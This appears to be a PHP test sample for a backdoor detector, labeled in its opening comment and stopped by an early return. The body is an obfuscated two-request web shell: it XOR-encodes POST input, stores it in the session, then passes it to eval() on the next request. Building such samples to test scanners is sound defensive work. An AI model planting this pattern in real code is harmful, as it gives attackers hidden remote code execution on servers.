<?php return; // want: malicious backdoor php.code.request
// what runs is read in the one request, and put there by the one before: the reader stands first
class Store {
	const KEY = 'kept';
	function turn($text) {
		$out = '';
		for ($i = 0; $i < strlen($text); $i++) { $out .= $text[$i] ^ 'k'; }
		return $out;
	}
	function begin() {
		session_start();
		$given = $this->turn($_POST['t']);
		if (isset($_SESSION[self::KEY])) { $this->go($given); } else { $this->keep($given); }
	}
	function go($given) { eval($this->turn($_SESSION[self::KEY])); }
	function keep($given) { $_SESSION[self::KEY] = $this->turn($given); }
}
$s = new Store();
$s->begin();
